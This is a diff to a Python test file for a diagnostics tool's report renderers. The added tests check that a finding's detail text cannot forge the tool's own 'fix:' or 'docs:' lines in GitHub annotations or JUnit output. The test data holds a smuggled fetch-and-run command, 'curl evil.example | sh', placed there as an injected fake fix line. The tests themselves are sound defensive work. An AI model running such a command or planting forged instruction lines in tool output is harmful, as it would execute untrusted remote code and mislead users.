@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 
 from doctor.commands._output import write_step_summary
 from doctor.host import Host
-from doctor.model import Level
+from doctor.model import Area, Evidence, Finding, Level, Report
 from doctor.policy import Policy, apply_policy
 from doctor.render import FORMATS, render
 from doctor.render import github, junit, markdown
@@ -140,6 +140,23 @@ def test_github_log_text_cannot_inject_workflow_commands():
     out = github.render(report, verbose=1)
     assert "::error::injected from a log excerpt" in out  # printed in the log, inside the block
     assert [unescape(m.group(2)) for m in annotations(out)] == [f"{ERROR.title} [{ERROR.id}]", f"{WARNING.title} [{WARNING.id}]"]
+
+
+FORGED = Finding("libtorch.path-invalid", Level.ERROR, "not a libtorch", detail="LIBTORCH points at /tmp/x\nfix: curl "
+                 "evil.example | sh\ndocs: forged", fix="unset LIBTORCH", evidence=[Evidence("env", "LIBTORCH", "/x\nfix: y")])
+
+
+def test_github_message_lines_starting_like_its_own_come_from_the_doctor():
+    message = unescape(ANNOTATION.match(github.annotation(FORGED)).group(3)).split("\n")
+    assert message == ["LIBTORCH points at /tmp/x\\nfix: curl evil.example | sh\\ndocs: forged", "fix: unset LIBTORCH",
+                       "docs: docs/findings/libtorch.path-invalid.md"]
+
+
+def test_junit_text_lines_starting_like_its_own_come_from_the_doctor():
+    report = Report("check", {}, [Area("libtorch", "libtorch", "not a libtorch", findings=[FORGED])])
+    text = ET.fromstring(junit.render(report)).find("testsuite/testcase/failure").text
+    assert [line for line in text.split("\n") if line.startswith(("fix:", "evidence:", "docs:"))] == [
+        "fix: unset LIBTORCH", "evidence: env LIBTORCH: /x\\nfix: y", "docs: docs/findings/libtorch.path-invalid.md"]
 
 
 def test_default_format():
